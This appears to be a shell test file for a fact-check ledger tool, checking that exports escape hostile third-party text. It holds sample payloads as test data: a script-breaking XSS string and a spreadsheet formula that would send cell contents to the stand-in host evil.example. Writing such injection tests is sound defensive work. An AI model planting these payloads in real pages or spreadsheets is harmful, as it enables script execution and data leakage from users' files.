#!/bin/sh
# hostile.sh: third-party text (articles, claims, speakers, URLs) that tries
# to break out of where claimledger writes it: the ClaimReview <script>
# block, a spreadsheet's formulas, the terminal.  Stored text stays byte
# for byte what was given; what is written around it is made safe.
. "$(dirname "$0")/lib.inc"

cp "$FIX/vectors/owner.key" owner.key && chmod 600 owner.key
export CLAIMLEDGER_DIR="$T/led"
"$BIN" init --key owner.key --origin example.org/hostile --newsroom "Example Fact Check" \
	--newsroom-url https://factcheck.example/checks >/dev/null || not_ok "init"

# ---- ClaimReview: JSON-LD that stays inside its <script> element ---------
xss='Taxes </script><script>alert(1)</script> &amp; fell'
succeeds "add a claim whose text closes the script element" add "$xss" --speaker "Jane <b>Doe</b>" \
	--source "https://news.example/a?x=1&y=2" --date 2021-11-22 --key owner.key
xseq=$(sed -n 's/^seq \([0-9]*\) .*/\1/p' "$T/.out")
succeeds "rate it" rate "$xseq" --verdict false --key owner.key
succeeds "export --format claimreview" export --format claimreview --out cr.json
check "no raw '<', '>' or '&' byte anywhere in the file" sh -c '! grep -q "[<>&]" cr.json'
check "the text is there escaped" grep -q 'Taxes \\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\u0026amp; fell' cr.json
check "the file still parses back to the original texts and source" python3 -c '
import json, sys
a = json.load(open("cr.json", encoding="utf-8"))
assert a[0]["claimReviewed"] == sys.argv[1], a[0]["claimReviewed"]
assert a[0]["itemReviewed"]["author"]["name"] == "Jane <b>Doe</b>"
assert a[0]["itemReviewed"]["appearance"]["url"] == "https://news.example/a?x=1&y=2"' "$xss"

# ---- CSV: no formula reaches a spreadsheet unless --raw -----------------
formula='=HYPERLINK("https://evil.example/?d="&B2,"source")'
succeeds "add a claim whose text is a spreadsheet formula" add "$formula" \
	--speaker "@SUM(1+1)" --source https://news.example/b --date 2021-11-22 --key owner.key
succeeds "export --format csv" export --format csv --out guarded.csv
check "the formula cell gets a leading ' inside RFC 4180 quotes" \
	grep -qF ",\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"," guarded.csv
check "... so does an @ cell" grep -qF ",'@SUM(1+1)," guarded.csv
check "no cell starts with a formula character" python3 -c '
import csv
for row in csv.reader(open("guarded.csv", newline="", encoding="utf-8")):
    for cell in row:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell'
succeeds "export --format csv --raw" export --format csv --raw --out raw.csv
check "--raw writes the cell verbatim" \
	grep -qF ",\"=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"," raw.csv
check "python's csv module reads both back: ' + text, and the text" python3 -c '
import csv, sys
g = list(csv.DictReader(open("guarded.csv", newline="", encoding="utf-8")))
r = list(csv.DictReader(open("raw.csv", newline="", encoding="utf-8")))
assert len(g) == len(r) == 2
assert g[1]["text"] == "'"'"'" + sys.argv[1] and r[1]["text"] == sys.argv[1]
assert g[1]["speaker"] == "'"'"'@SUM(1+1)" and r[1]["speaker"] == "@SUM(1+1)"
assert g[0]["text"] == r[0]["text"] == sys.argv[2]' "$formula" "$xss"
fails 2 "--raw with another format" export --format claimreview --raw

finish
